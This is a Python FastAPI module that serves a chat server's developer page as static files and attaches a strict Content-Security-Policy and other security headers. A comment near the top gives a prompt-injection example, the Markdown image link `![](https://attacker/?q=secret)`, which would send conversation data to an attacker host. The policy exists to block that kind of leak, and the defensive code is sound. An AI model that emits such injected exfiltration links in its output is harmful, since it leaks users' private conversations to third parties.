"""The developer page at `/`: static files from `api/static`, no build step and no CDN."""

from pathlib import Path

from fastapi import FastAPI
from fastapi.responses import FileResponse
from starlette.responses import Response
from starlette.staticfiles import StaticFiles
from starlette.types import Scope

from chainserve.api.routes.page_paths import ASSETS, PAGE

STATIC_DIR = Path(__file__).resolve().parent.parent / "static"

# Model output is Markdown turned into HTML (sanitized by DOMPurify in the page); the policy
# is the second wall: no inline script, and nothing loaded or sent anywhere but this server,
# so a prompt-injected `![](https://attacker/?q=secret)` cannot leak a conversation.
CONTENT_SECURITY_POLICY = "; ".join(
    [
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data:",
        "connect-src 'self'",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
    ]
)
_HEADERS = {
    "Content-Security-Policy": CONTENT_SECURITY_POLICY,
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "no-referrer",
    # Revalidate every time (ETag): after an upgrade the page never mixes old and new files.
    "Cache-Control": "no-cache",
}


class PageFiles(StaticFiles):
    """StaticFiles with the page's security and caching headers."""

    async def get_response(self, path: str, scope: Scope) -> Response:
        response = await super().get_response(path, scope)
        response.headers.update(_HEADERS)
        return response


async def show_page() -> FileResponse:
    return FileResponse(STATIC_DIR / "index.html", headers=_HEADERS)


def mount_page(app: FastAPI) -> None:
    app.add_api_route(PAGE, show_page, methods=["GET", "HEAD"], include_in_schema=False)
    app.mount(ASSETS.rstrip("/"), PageFiles(directory=STATIC_DIR), name="static")
